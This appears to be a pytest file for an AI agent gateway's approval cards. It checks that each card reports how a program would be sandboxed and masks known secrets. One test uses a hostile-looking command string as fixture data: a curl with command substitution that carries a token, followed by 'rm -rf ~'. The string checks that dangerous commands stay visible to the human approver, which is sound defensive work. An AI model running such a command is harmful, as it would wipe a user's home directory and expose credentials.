"""Whole gateways: a card says how contained its program would run, and masks known secrets, nothing else."""

import json
import sys
from pathlib import Path

import pytest

from holdfast.agents import Agent, OnText, Prompt, unheard
from holdfast.config.settings import GatewaySettings
from holdfast.model import CallId, Replied, StopReason, ToolCall
from holdfast.policy.containment import Containment, card_words
from holdfast.policy.settings import ApprovalSettings, Rule, Ruling
from holdfast.telemetry import KnownSecrets
from tests.processes.test_mcp import settings as mcp_settings
from tests.support.gateways import Town
from tests.support.loops import on_a_loop
from tests.support.outside import Build, House
from tests.support.stage import Deed
from tests.support.web import signed_in, token_of

ASK = """\
tools.use = ["terminal", "processes"]
approvals.effect = "ask"
approvals.idempotent = "ask"
"""
CONTAINED = card_words(Containment.BUBBLEWRAP, required=True)
RUNS_LINUX = pytest.mark.skipif(sys.platform != "linux", reason="programs are contained on Linux alone")


PROGRAMS = pytest.mark.parametrize("tool", ["terminal", "process_start", "tools__effect"])
"""Every tool that runs programs."""


def argument_of(tool: str) -> str:
    """The tools of an MCP server take a tag, the others a command."""
    return "tag" if "__" in tool else "command"


def card(house: House, tool: str, **arguments: str) -> str:
    """What the page of a person who is signed in is given to show before a call of this tool can run."""
    (house.home / f"{tool}-a.json").write_text(json.dumps(arguments or "a"))
    house.say("home", f"do {tool} #a")
    house.heard("home", f"May I run `{tool}`?")
    with signed_in(house.home) as page:
        (asked,) = page.get("/api/chats/home").json()["questions"]
    text: str = asked["text"]
    return text


@RUNS_LINUX
@pytest.mark.guards("R22.1")
@PROGRAMS
def test_the_card_of_every_program_says_that_it_runs_contained(
    build: Build, tmp_path: Path, tool: str
) -> None:
    house = build(ASK + mcp_settings(tmp_path))
    gateway = house.up()
    told = card(house, tool, **{argument_of(tool): "true"})
    assert f"\n\n{CONTAINED}\n\nAlways allow in this chat, " in told
    gateway.stop()


@pytest.mark.guards("R22.1")
def test_the_card_of_a_call_that_starts_no_program_says_nothing_of_it(build: Build) -> None:
    house = build(ASK)
    gateway = house.up()
    assert "contained" not in card(house, "effect")
    gateway.stop()


@RUNS_LINUX
@pytest.mark.guards("R22.1")
@PROGRAMS
def test_without_bubblewrap_the_card_says_that_landlock_alone_contains(
    build: Build, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tool: str
) -> None:
    (tmp_path / "no-programs").mkdir()
    monkeypatch.setenv("PATH", str(tmp_path / "no-programs"))
    house = build(ASK + mcp_settings(tmp_path))
    gateway = house.up()
    told = card(house, tool, **{argument_of(tool): "true"})
    if house.ask("status")["containment"]["containment"] == Containment.LANDLOCK:
        assert "The program runs contained by Landlock only:" in told
    else:
        assert "The program will be refused: this machine cannot contain it." in told, "an older kernel"
    gateway.stop()


@pytest.mark.guards("R22.1")
@PROGRAMS
def test_where_the_owner_turned_containment_off_every_card_says_so(
    build: Build, tmp_path: Path, tool: str
) -> None:
    house = build(f'{ASK}tools.containment = "off"\n{mcp_settings(tmp_path)}')
    gateway = house.up()
    assert "The program runs NOT contained:" in card(house, tool, **{argument_of(tool): "true"})
    gateway.stop()


@pytest.mark.guards("R22.4", "R22.7")
@PROGRAMS
def test_a_known_secret_is_masked_and_everything_else_is_shown_whatever_it_looks_like(
    build: Build, tmp_path: Path, tool: str
) -> None:
    """What looks like a secret, and what stands in the middle of a long command."""
    house = build(ASK + mcp_settings(tmp_path))
    gateway = house.up()
    token = token_of(house.home)
    words = "GH_TOKEN=$(id) curl 'https://u:{secret}@x.example/?key=$(id)'"
    words = f"{'true; ' * 600}{words}; rm -rf ~; {'true; ' * 600}true"
    told = card(house, tool, **{argument_of(tool): words.format(secret=token)})
    assert f"{argument_of(tool)}: {words.format(secret='[secret]')}\n" in told
    assert token not in told
    gateway.stop()


class Twice:
    """A model that wants the same tool called twice in one reply."""

    def __init__(self, *arguments: str) -> None:
        self._calls = tuple(ToolCall(CallId(one), "deed", json.dumps({"file": one})) for one in arguments)

    async def reply(self, prompt: Prompt, on_text: OnText = unheard) -> Replied:
        return Replied("", StopReason.CALLS, self._calls)


@pytest.mark.guards("R22.4", "R22.7")
@on_a_loop
async def test_a_value_that_became_a_secret_after_it_was_planned_is_masked_on_the_card(
    tmp_path: Path,
) -> None:
    """The token may be replaced while a call that names the new one waits for the one before it."""
    asks = ApprovalSettings((Rule(Ruling.ASK, ("deed",)),))
    town = Town(tmp_path, GatewaySettings(approvals=asks))
    known = [KnownSecrets()]
    town.secrets = lambda: known[-1]
    town.agent = Agent(Twice("first", "hunter2hunter2"), (Deed(held=False),))
    await town.start()
    town.mail.say("do both")
    await town.until(lambda: any("file: first" in text for text in town.mail.texts()))
    known.append(KnownSecrets(("hunter2hunter2",)))
    town.mail.say("no")
    await town.until(lambda: any("file: [secret]" in text for text in town.mail.texts()))
    assert "masked above. The call runs with the value itself." in town.mail.texts()[-1]
    assert not any("hunter2hunter2" in text for text in town.mail.texts())
    await town.crash()


def test_the_words_of_each_containment_differ_and_name_it() -> None:
    words = {card_words(one, required) for one in Containment for required in (True, False)}
    assert len(words) == 4
    for one in (Containment.BUBBLEWRAP, Containment.LANDLOCK):
        assert card_words(one, required=True).startswith(f"The program runs {one.words}: ")
